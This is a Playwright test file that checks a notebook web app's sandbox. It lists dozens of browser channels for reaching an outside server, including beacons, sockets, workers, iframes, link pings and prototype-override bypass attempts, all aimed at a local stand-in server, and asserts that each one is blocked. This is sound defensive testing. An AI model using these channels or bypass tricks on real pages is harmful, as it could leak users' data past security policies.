/** What a notebook's code may do in the page, it may do without the network: nothing it tries asks another server. */

import { type Page, expect, test } from "@playwright/test";
import { type Running, serveApp, serveForeign } from "./server.ts";

let app: Running;
let foreign: Running;

test.beforeAll(async () => {
  // Without any header: what holds here holds wherever the app's folder is put.
  [app, foreign] = await Promise.all([serveApp("se-lens"), serveForeign()]);
});

test.afterAll(() => Promise.all([app.stop(), foreign.stop()]));

/** Runs a text as a cell would, as a function made of it, with the foreign server's address as `foreign`. */
async function runCode(page: Page, code: string): Promise<unknown> {
  return page.evaluate(
    ([text, address]) => {
      const body = `return (async () => { ${text} })()`;
      return (new Function("foreign", body)(address) as Promise<unknown>).then(
        (value) => value,
        (error: unknown) => `threw ${String(error)}`,
      );
    },
    [code, foreign.address.replace("localhost", "127.0.0.1")] as const,
  );
}

/** Opens the app and returns whether the page is still there in the end. */
async function open(page: Page, path = "#/"): Promise<void> {
  await page.goto(`${app.address}/se-lens/${path}`);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
}

const element = (tag: string, fields: string): string =>
  `const it = document.createElement("${tag}"); Object.assign(it, ${fields}); document.body.append(it);`;
const worker = (code: string, type = "classic"): string =>
  `const text = ${JSON.stringify(code)}.replaceAll("FOREIGN", foreign);
   const url = URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
   const it = new Worker(url, { type: "${type}" });
   await new Promise((resolve) => { it.onmessage = it.onerror = resolve; });`;

const ways: Readonly<Record<string, string>> = {
  fetch: `await fetch(foreign + "/fetch");`,
  "fetch without CORS": `await fetch(foreign + "/no-cors", { mode: "no-cors", method: "POST" });`,
  XMLHttpRequest: `const it = new XMLHttpRequest(); it.open("GET", foreign + "/xhr"); it.send();`,
  beacon: `navigator.sendBeacon(foreign + "/beacon", "text");`,
  WebSocket: `new WebSocket(foreign.replace("http", "ws") + "/socket");`,
  EventSource: `new EventSource(foreign + "/events");`,
  import: `await import(foreign + "/module.js");`,
  image: `new Image().src = foreign + "/image.png";`,
  script: element("script", `{ src: foreign + "/script.js" }`),
  stylesheet: element("link", `{ rel: "stylesheet", href: foreign + "/style.css" }`),
  prefetch: element("link", `{ rel: "prefetch", href: foreign + "/prefetch" }`),
  icon: element("link", `{ rel: "icon", href: foreign + "/icon.png" }`),
  manifest: element("link", `{ rel: "manifest", href: foreign + "/manifest" }`),
  "a style's picture": element(
    "div",
    `{ style: \`background: url(\${foreign}/background.png); width: 9px; height: 9px\` }`,
  ),
  "a style's import": element("style", `{ textContent: \`@import "\${foreign}/import.css";\` }`),
  font: `const it = new FontFace("x", \`url(\${foreign}/font.woff2)\`); await it.load();`,
  video: element("video", `{ src: foreign + "/video.mp4", preload: "auto" }`),
  frame: element("iframe", `{ src: foreign + "/frame" }`),
  "a frame of its own text": element("iframe", `{ srcdoc: \`<img src="\${foreign}/srcdoc">\` }`),
  "an empty frame's own fetch": `${element("iframe", "{}")} await it.contentWindow.fetch(foreign + "/empty");`,
  object: element("object", `{ data: foreign + "/object" }`),
  embed: element("embed", `{ src: foreign + "/embed" }`),
  worker: `new Worker(foreign + "/worker.js");`,
  "a worker's fetch": worker(`fetch("FOREIGN/worker-fetch").finally(() => postMessage(0));`),
  "a worker's script": worker(`importScripts("FOREIGN/worker-script.js");`),
  "a worker's module": worker(`import "FOREIGN/worker-module.js";`, "module"),
  "a worker's socket": worker(`new WebSocket("FOREIGN/ws".replace("http", "ws")); postMessage(0);`),
  form: `${element("form", `{ action: foreign + "/form" }`)} it.submit();`,
  location: `location.href = foreign + "/location";`,
  "the window above a frame": `${element("iframe", "{}")} it.contentWindow.parent.location = foreign + "/parent";`,
  "a link's click": `${element("a", `{ href: foreign + "/link" }`)} it.click();`,
  "a link's click outside the page": `Object.assign(document.createElement("a"), { href: foreign + "/outside" }).click();`,
  "a link's ping": `${element("a", `{ href: "#/", ping: foreign + "/ping" }`)} it.click();`,
  refresh: `const it = document.createElement("meta"); it.httpEquiv = "refresh";
    it.content = "0; url=" + foreign + "/refresh"; document.head.append(it);`,
  "a new window": `window.open(foreign + "/window");`,
  WebRTC: `new RTCPeerConnection();`,
};

test("nothing that a notebook's code tries asks another server, or leaves the page", async ({
  page,
}) => {
  const questions: string[] = [];
  page.on("dialog", (dialog) => {
    questions.push(dialog.message());
    void dialog.dismiss();
  });
  await open(page);
  for (const [way, code] of Object.entries(ways)) {
    await test.step(way, () => runCode(page, code));
  }
  await page.waitForTimeout(1000);
  expect(foreign.asked).toEqual([]);
  expect(page.url()).toContain(`${app.address}/se-lens/`);
  // Only a window that code opens may be what the person wants.
  expect(questions).toHaveLength(1);
  expect(questions[0]).toContain("/window");
});

test("code that replaces the page's own functions gets no further", async ({ page }) => {
  await open(page);
  await runCode(
    page,
    `Event.prototype.preventDefault = () => {};
     Reflect.apply = () => undefined;
     Object.defineProperty(URL.prototype, "origin", { get: () => location.origin });
     Object.defineProperty(NavigateEvent.prototype, "userInitiated", { get: () => true });
     document.querySelector("meta[http-equiv]").remove();
     location.href = foreign + "/replaced";
     fetch(foreign + "/without-meta").catch(() => {});`,
  );
  await page.waitForTimeout(500);
  expect(foreign.asked).toEqual([]);
});

test("the engine's worker runs with the page's policy or not at all", async ({ page }) => {
  await open(page, "?backend=wasm&size=320#/channel-weights");
  await expect(page.getByRole("heading", { name: /detections? in/ })).toBeVisible();
  const engine = page.workers().find((one) => one.url().startsWith("blob:"));
  const blocked = await engine?.evaluate(
    (address) => fetch(address).then(() => "answered", String),
    `${foreign.address}/engine`,
  );
  expect(blocked).toContain("TypeError");
  const told = await runCode(
    page,
    `const found = performance.getEntriesByType("resource").map(({ name }) => name);
     const scripts = found.filter((name) => /assets\\/.*\\.js$/.test(name));
     const texts = await Promise.all(scripts.map(async (name) => (await fetch(name)).text()));
     const file = texts.join().match(/worker-[\\w-]+\\.js/)[0];
     const it = new Worker("./assets/" + file, { type: "module" });
     return new Promise((resolve) => { it.onerror = (event) => resolve(event.message); });`,
  );
  expect(told).toContain("starts from a blob");
  expect(foreign.asked).toEqual([]);
});

test("in online.html a notebook reaches https servers, and only what has a notebook of its own stays", async ({
  page,
}) => {
  await page.route("https://elsewhere.example/**", (route) =>
    route.fulfill({ body: "42", headers: { "Access-Control-Allow-Origin": "*" } }),
  );
  const code = `return (await fetch("https://elsewhere.example/data")).text();`;
  await open(page);
  expect(await runCode(page, code)).toContain("threw TypeError");
  await page.goto(`${app.address}/se-lens/online.html#/mine/none`);
  expect(await runCode(page, code)).toBe("42");
  expect(await runCode(page, `return (await fetch(foreign + "/http")).text();`)).toContain("threw");
  await page.evaluate(() => (location.hash = "#/"));
  await expect(page).toHaveURL(`${app.address}/se-lens/#/`);
  expect(await runCode(page, code)).toContain("threw TypeError");
  expect(foreign.asked).toEqual([]);
});

test("a frame around the app stays empty where our own server sends it", async ({ request }) => {
  for (const page of ["./", "./online.html?backend=wasm"]) {
    const policy = (await request.get(page)).headers()["content-security-policy"] ?? "";
    expect(policy).toContain("frame-ancestors 'none'");
    expect(/connect-src[^;]* https:/.test(policy)).toBe(page.includes("online"));
  }
});
